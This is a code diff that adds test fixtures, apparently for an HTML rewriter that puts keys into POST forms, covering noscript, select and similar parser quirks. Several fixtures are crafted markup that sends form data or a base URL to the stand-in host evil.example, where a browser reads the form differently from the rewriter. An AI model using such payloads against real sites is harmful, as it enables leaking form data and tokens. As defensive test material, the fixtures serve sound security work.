@@ -95,9 +95,18 @@ const MISREAD = {
   // browser without JavaScript keeps open past the </noscript> and </form>.
   "/misread/noscript-div": `<form method="post" action="/orders"><input name="q"><noscript><div></noscript></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
   "/misread/svg-in-svg": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="https://evil.example/c"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
+  // The fifth's: a <noscript> whose quoted value, comment or raw-text
+  // element a browser keeps open past the </noscript> the rewriter saw (the
+  // GET form stays the browser's), and a block end tag a browser ignores
+  // inside a <select>.
+  "/misread/noscript-title": `<form method="get" action="https://evil.example/c"><noscript><p title="</noscript></form><form method=post action=/orders>"><input name="q"><button>Pay</button></form>`,
+  "/misread/noscript-comment": `<noscript><!--</noscript><form method="post" action="/a"><button>A</button></form>--></noscript><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
+  "/misread/noscript-xmp": `<form><noscript><xmp></noscript></form><form method="post" action="/orders"></xmp></noscript><input name="q"><button>Pay</button></form>`,
+  "/misread/select-div": `<form id="x" method="post"><div><select></div></form><input type="submit" formmethod="get" formaction="https://evil.example/c" value="Look"><input name="q">`,
+  "/misread/select-fieldset": `<form id="x" method="post"><fieldset><select></fieldset></form><input type="submit" formmethod="get" value="Look"><input name="q">`,
 };
 // Markup common on real pages that reads alike to both: keys as usual.
-const STILL_KEYED = `<!doctype html><form method="post" action="/orders"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>
+const STILL_KEYED = `<!doctype html><noscript><img height="1" width="1" style="display:none" src="/px?id=1&amp;ev=PageView&amp;noscript=1"/></noscript><form method="post" action="/orders"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>
 <form method="post" action="/orders"><table><tr><td><input name="q"></table><div><span>Total</div><ul><li>one<li>two</ul><textarea name="note"></textarea><button>Pay</button></form>
 <math><mi>x</mi><mo>=</mo><mn>1</mn></math><form method="post" action="/orders" id="after-math"><button>Pay</button></form>`;
 // Pages a browser reads otherwise than the rewriter at their very end, or
@@ -106,6 +115,14 @@ const STILL_KEYED = `<!doctype html><form method="post" action="/orders"><button
 const UNFINISHED_BASE =
   '<form method="post" action="orders"><button>Pay</button></form><form method="post" action="/y" id="x"><button>Other</button></form><base href="https://evil.example/" ';
 const ENDS_AND_CHARSETS = {
+  // Text-only elements inside a <select>, which the runtime's rewriter
+  // cannot read (it threw mid-page, and the page was cut off): the page is
+  // cut before them, its rest as sent.
+  "/ends/select-noframes": ["text/html", "<p>before</p><select><noframes>x</noframes></select><p>after</p>"],
+  "/ends/select-style": [
+    "text/html",
+    `<p>before</p><form method="post"><select><style></select></style></select></form><p>after: ${"the tail of the page ".repeat(50)}</p>`,
+  ],
   // A page ending inside a tag: an input placed after it would finish the
   // tag and lend it `form="x"` and the key as its value.
   "/ends/in-tag": [
